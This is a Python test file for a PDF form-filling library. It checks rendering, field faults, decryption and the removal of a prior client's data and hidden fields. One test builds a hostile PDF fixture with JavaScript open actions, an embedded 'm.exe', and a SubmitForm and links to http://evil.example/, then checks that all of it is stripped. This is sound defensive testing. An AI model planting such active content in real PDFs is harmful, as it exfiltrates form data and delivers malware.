"""Filled forms, as poppler and pdfium show them, and values that do not fit their field."""

from __future__ import annotations

import io
from collections.abc import Iterator, Mapping
from pathlib import Path

import pypdfium2
import pytest
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String

from casebook.base.errors import DamagedSource
from casebook.pdf.form.form_reading import read_form
from casebook.pdf.form.form_writing import fill_form
from tests.pdf.form.test_form_reading import FORM
from tests.pdf.read import texts
from tests.pdf.written_form import altered, field, locked, with_xfa, written_form

ANSWERS = {
    "name": "Lin Zhiyuan 林志远",
    "born": "19840724",
    "reasons": "First line\nA second line about 北京市 that is so long that it must be broken in two.",
    "legal-aid": "Yes",
    "sex": "M",
    "country": "Cyprus",
    "court": "second",
}


def filled(
    answers: Mapping[str, str] = ANSWERS, data: bytes | None = None, *, is_flat: bool = False
) -> bytes:
    made, outcome = fill_form(FORM, data or written_form(), answers, is_flat=is_flat)
    assert outcome.faults == ()
    return made


def faults_of(answers: Mapping[str, str], data: bytes | None = None) -> list[tuple[str, str]]:
    made, outcome = fill_form(FORM, data or written_form(), answers, is_flat=False)
    assert made == b""
    return [(fault.field, fault.kind) for fault in outcome.faults]


def by_poppler(data: bytes, tmp_path: Path) -> str:
    path = tmp_path / "filled.pdf"
    path.write_bytes(data)
    return " ".join(" ".join(texts(path)).split())


def by_pdfium(data: bytes) -> str:
    with pypdfium2.PdfDocument(data) as document:
        document.init_forms()
        shown = []
        for index in range(len(document)):
            if document.formenv:
                document[index].flatten()
            shown.append(document[index].get_textpage().get_text_bounded())
        return " ".join(" ".join(shown).split())


@pytest.mark.parametrize("is_flat", [False, True])
def test_both_readers_show_every_value(*, is_flat: bool, tmp_path: Path) -> None:
    data = filled(is_flat=is_flat)
    for shown in (by_poppler(data, tmp_path), by_pdfium(data)):
        for text in ("Lin Zhiyuan 林志远", "First line", "北京市", "broken in two", "Cyprus", "second"):
            assert text in shown
        assert "1 9 8 4 0 7 2 4" in shown or "19840724" in shown


def test_the_file_itself_holds_values_and_states() -> None:
    with Pdf.open(io.BytesIO(filled())) as pdf:
        form = pdf.Root.AcroForm
        assert Name.NeedAppearances not in form
        assert str(field(pdf, "name").V) == ANSWERS["name"]
        assert str(field(pdf, "reasons").V).startswith("First line\rA second")
        assert field(pdf, "legal-aid").V == field(pdf, "legal-aid").AS == Name.Yes
        sex = field(pdf, "sex")
        assert sex.V == Name.M
        assert [str(kid.AS) for kid in sex.Kids] == ["/Off", "/M"]
        assert str(field(pdf, "court").V) == "second"
        assert list(field(pdf, "court").I) == [1]


def test_a_box_is_cleared_by_off() -> None:
    ticked = filled()
    with Pdf.open(io.BytesIO(filled({"legal-aid": "Off"}, ticked))) as pdf:
        assert str(field(pdf, "legal-aid").AS) == "/Off"


def test_a_flat_copy_has_no_fields_left() -> None:
    with Pdf.open(io.BytesIO(filled(is_flat=True))) as pdf:
        assert Name.AcroForm not in pdf.Root
        assert all(len(page.obj.get(Name.Annots, [])) == 0 for page in pdf.pages)


def test_each_character_of_a_comb_has_its_cell() -> None:
    with pypdfium2.PdfDocument(filled({"born": "1984"})) as document:
        document.init_forms()
        document[0].flatten()
        shown = document[0].get_textpage()
        for place, digit in enumerate("1984"):
            assert shown.get_text_bounded(50 + 20 * place, 660, 70 + 20 * place, 680).strip() == digit


@pytest.mark.parametrize(
    ("answers", "kind"),
    [
        ({"unknown": "x"}, "absent"),
        ({"office": "x"}, "read-only"),
        ({"short": "longer"}, "too-long"),
        ({"name": "word " * 80}, "no-room"),
        ({"reasons": "word " * 390}, "no-room"),
        ({"name": "\ue000"}, "no-letter"),
        ({"sex": "X"}, "no-choice"),
        ({"country": "Atlantis"}, "no-choice"),
    ],
)
def test_a_value_that_cannot_stand_is_named(answers: Mapping[str, str], kind: str) -> None:
    ((name, found),) = faults_of({**answers, "born": "1984"})
    assert (name, found) == (next(iter(answers)), kind)


def test_a_filled_hybrid_has_no_xfa_and_no_rights_for_the_unchanged_file() -> None:
    def add_rights(pdf: Pdf) -> None:
        pdf.Root.Perms = Dictionary(UR3=Dictionary(Type=Name.Sig))

    with Pdf.open(io.BytesIO(filled(data=altered(add_rights, with_xfa())))) as pdf:
        assert Name.XFA not in pdf.Root.AcroForm
        assert Name.Perms not in pdf.Root


def test_a_form_that_may_be_filled_is_decrypted() -> None:
    with Pdf.open(io.BytesIO(filled(data=locked()))) as pdf:
        assert not pdf.is_encrypted
        assert str(field(pdf, "name").V) == ANSWERS["name"]


@pytest.mark.parametrize("is_flat", [False, True])
def test_nothing_of_a_former_client_stays(*, is_flat: bool, tmp_path: Path) -> None:
    def use_again(pdf: Pdf) -> None:
        for name in ("office", "short", "reasons"):
            field(pdf, name).V = field(pdf, name).DV = String("Wei Ming")
        field(pdf, "legal-aid").V = field(pdf, "legal-aid").AS = Name.Yes
        hidden = pdf.make_indirect(Dictionary(FT=Name.Tx, T=String("draft"), V=String("Wei Ming, case 12")))
        pdf.Root.AcroForm.Fields.append(hidden)  # on no page
        note = Dictionary(
            Type=Name.Annot, Subtype=Name.FreeText, Rect=[50, 50, 99, 99], Contents=String("Wei Ming")
        )
        pdf.pages[0].obj.Annots.append(pdf.make_indirect(note))
        pdf.Root.StructTreeRoot = Dictionary(
            Type=Name.StructTreeRoot, K=Dictionary(Obj=pdf.pages[0].obj.Annots[-1])
        )
        pdf.pages[0].obj.Thumb = pdf.make_stream(b"Wei Ming")
        pdf.Root.Metadata = pdf.make_stream(b"<x>Wei Ming</x>", Type=Name.Metadata, Subtype=Name.XML)
        pdf.docinfo.Author = "Wei Ming"

    former = filled({**ANSWERS, "name": "Wei Ming", "reasons": "Wei Ming"})
    data, outcome = fill_form(FORM, altered(use_again, former), {"name": "Lin"}, is_flat=is_flat)
    assert outcome.removed == ("notes", "properties")
    assert "Wei" not in by_poppler(data, tmp_path) + by_pdfium(data)
    assert "Cyprus" not in by_poppler(data, tmp_path)
    assert not any("Wei Ming" in text for text in every_text(data))
    with Pdf.open(io.BytesIO(data)) as pdf:
        if not is_flat:
            assert str(field(pdf, "legal-aid").AS) == "/Off"
            assert str(field(pdf, "name").V) == "Lin"


def every_text(data: bytes) -> Iterator[str]:
    """Every string and name of a file, and every stream as it is unpacked."""
    with Pdf.open(io.BytesIO(data)) as pdf:
        waiting: list[object] = [*pdf.objects, pdf.trailer.get(Name.Info)]
        while waiting:
            one = waiting.pop()
            if isinstance(one, Stream):
                yield one.read_bytes().decode("latin-1")
            parts: list[object] = []
            if isinstance(one, Dictionary | Stream):
                yield from one.keys()
                parts = [one.get(key) for key in list(one.keys())]
            elif isinstance(one, Array):
                parts = list(one)
            elif isinstance(one, String | Name):
                yield str(one)
            waiting += [part for part in parts if not getattr(part, "is_indirect", False)]


@pytest.mark.parametrize("is_flat", [False, True])
def test_nothing_that_acts_stays(*, is_flat: bool) -> None:
    def script(words: str = "app.alert(1)") -> Dictionary:
        return Dictionary(S=Name.JavaScript, JS=String(words))

    def arm(pdf: Pdf) -> None:
        attached = Dictionary(
            Type=Name.Filespec, F=String("m.exe"), EF=Dictionary(F=pdf.make_stream(b"MZ planted"))
        )
        pdf.Root.OpenAction = script()
        pdf.Root.AA = Dictionary(WS=script())
        pdf.Root.Names = Dictionary(
            JavaScript=Dictionary(Names=Array([String("x"), script()])),
            EmbeddedFiles=Dictionary(Names=Array([String("m.exe"), attached])),
        )
        pdf.Root.URI = Dictionary(Base=String("http://evil.example/"))
        page = pdf.pages[0].obj
        page.AA = Dictionary(O=script())
        field(pdf, "name").AA = Dictionary(K=script("event.value"))
        field(pdf, "name").A = Dictionary(
            S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("http://evil.example/"))
        )
        link = Dictionary(S=Name.URI, URI=String("http://evil.example/link"))
        for kind, entries in (("Link", {"/A": link}), ("FileAttachment", {"/FS": attached})):
            note = Dictionary(Type=Name.Annot, Subtype=Name("/" + kind), Rect=[0, 0, 595, 842], F=4)
            for key, value in entries.items():
                note[key] = value
            page.Annots.append(pdf.make_indirect(note))
        pdf.Root.StructTreeRoot = Dictionary(
            Type=Name.StructTreeRoot, K=Array([page.Annots[-2], page.Annots[-1]])
        )

    data, outcome = fill_form(FORM, altered(arm), {"name": "Lin"}, is_flat=is_flat)
    assert outcome.removed == ("actions", "attachments", "links", "properties", "scripts")
    for text in every_text(data):
        assert "evil" not in text
        assert "planted" not in text
        assert text not in {"/JavaScript", "/JS", "/OpenAction", "/AA", "/URI", "/SubmitForm", "/EF"}


def test_a_field_that_nobody_sees_is_not_filled_in() -> None:
    def hide(pdf: Pdf) -> None:
        field(pdf, "name").F = 2
        field(pdf, "short").Rect = [5000, 6000, 5200, 6020]
        field(pdf, "legal-aid").F = 32
        layer = pdf.make_indirect(Dictionary(Type=Name.OCG, Name=String("off")))
        pdf.Root.OCProperties = Dictionary(OCGs=[layer], D=Dictionary(OFF=[layer]))
        field(pdf, "born").OC = layer

    answers = {"name": "Lin", "short": "a", "legal-aid": "Yes", "born": "1984", "reasons": "seen"}
    assert faults_of(answers, altered(hide)) == [
        (name, "hidden") for name in ("name", "short", "legal-aid", "born")
    ]
    filled({"reasons": "seen"}, altered(hide))


def test_white_on_white_and_what_is_covered_count_as_unseen() -> None:
    def paint(pdf: Pdf) -> None:
        one = field(pdf, "name")
        one.DA, one.MK = String("/Helv 10 Tf 1 g"), Dictionary()
        reasons = field(pdf, "reasons")
        cover = pdf.make_indirect(
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.Widget,
                FT=Name.Tx,
                T=String("cover"),
                F=4,
                Rect=reasons.Rect,
                MK=Dictionary(BG=[1, 1, 1]),
                P=pdf.pages[0].obj,
            )
        )
        pdf.pages[0].obj.Annots.append(cover)
        pdf.Root.AcroForm.Fields.append(cover)

    data = altered(paint)
    assert faults_of({"name": "Lin", "reasons": "covered", "short": "seen"}, data) == [
        ("name", "unseen"),
        ("reasons", "unseen"),
    ]


@pytest.mark.parametrize("turn", [0, 90, 180, 270])
def test_values_are_seen_on_turned_and_cropped_pages(turn: int) -> None:
    def change(pdf: Pdf) -> None:
        for page in pdf.pages:
            page.obj.Rotate = turn
            page.obj.CropBox = [40, 400, 595, 842]

    filled(data=altered(change))


def test_a_box_without_appearances_gets_a_cross() -> None:
    def strip(pdf: Pdf) -> None:
        del field(pdf, "legal-aid").AP

    bare = altered(strip)
    assert read_form(FORM, io.BytesIO(bare)).fields[5].choices[0].value == "Yes"

    def darkness(data: bytes) -> int:
        with pypdfium2.PdfDocument(data) as document:
            document.init_forms()
            picture = document[1].render(scale=1, may_draw_forms=True).to_pil().convert("L")
            return sum(value < 100 for value in picture.crop((50, 122, 70, 142)).tobytes())

    assert darkness(filled({"legal-aid": "Yes"}, bare)) > darkness(filled({"born": "1984"}, bare))


def test_a_turned_field_is_drawn_along_its_box() -> None:
    def turn(pdf: Pdf) -> None:
        one = field(pdf, "name")
        one.Rect = [50, 400, 70, 650]
        one.MK.R = 90

    with pypdfium2.PdfDocument(filled({"name": "Lin Zhiyuan"}, altered(turn))) as document:
        document.init_forms()
        document[0].flatten()
        shown = document[0].get_textpage().get_text_bounded(50, 400, 70, 650)
    assert "".join(shown.split()) == "LinZhiyuan"


def test_fields_of_one_name_share_a_value(tmp_path: Path) -> None:
    def repeat(pdf: Pdf) -> None:
        field(pdf, "short").T = String("name")
        del field(pdf, "name").MaxLen

    data = filled({"name": "Lin"}, altered(repeat))
    assert by_poppler(data, tmp_path).count("Lin") == 2


def test_an_impossible_number_is_named_as_damage() -> None:
    def spoil(pdf: Pdf) -> None:
        field(pdf, "name").F = 1 << 40

    with pytest.raises(DamagedSource, match="cannot be filled in"):
        fill_form(FORM, altered(spoil), {"name": "x"}, is_flat=True)
